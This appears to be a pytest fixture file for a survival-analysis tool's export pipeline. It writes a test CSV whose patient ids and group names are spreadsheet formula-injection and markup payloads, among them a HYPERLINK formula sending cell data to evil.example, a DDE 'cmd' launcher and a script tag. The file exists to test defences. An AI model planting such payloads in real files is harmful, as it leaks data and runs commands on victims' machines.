"""Exports of the demo trial and of a file with hostile text, each made once per session."""

from __future__ import annotations

from pathlib import Path

import pytest

from resort_gui.app.cli import main
from resort_gui.app.pipeline import analyze_file
from resort_gui.io.demo import demo_spec

HOSTILE_GROUPS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
                  "<script>alert(1)</script> & co")
HOSTILE_PATIENTS = ("@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTAB", "=1+2")


@pytest.fixture(scope="session")
def demo_result():
    return analyze_file(demo_spec()).result


@pytest.fixture(scope="session")
def demo_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``analyze --demo`` with every figure format at 600 dpi, 85 mm, and the report."""
    out = tmp_path_factory.mktemp("demo")
    assert main(["analyze", "--demo", "--formats", "png,tiff,svg,pdf", "--dpi", "600",
                 "--size", "85mm", "--report", "--out", str(out)]) == 0
    return out


def write_hostile_csv(path: Path) -> Path:
    """A small trial whose group names and patient ids are formula and markup attacks."""
    lines = ["patient,months,event,arm"]
    for i in range(24):
        patient = HOSTILE_PATIENTS[i] if i < len(HOSTILE_PATIENTS) else f"P{i}"
        arm = HOSTILE_GROUPS[i % 2]
        lines.append(",".join(_quote(v) for v in (patient, str(3 + (i * 7) % 40),
                                                  str(i % 3 != 0).lower(), arm)))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.fixture(scope="session")
def hostile_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    data = write_hostile_csv(base / "trial.csv")
    out = base / "out"
    assert main(["analyze", str(data), "--time", "months", "--event", "event", "--group", "arm",
                 "--patient-id", "patient", "--formats", "png,svg,pdf", "--report",
                 "--out", str(out)]) == 0
    return out
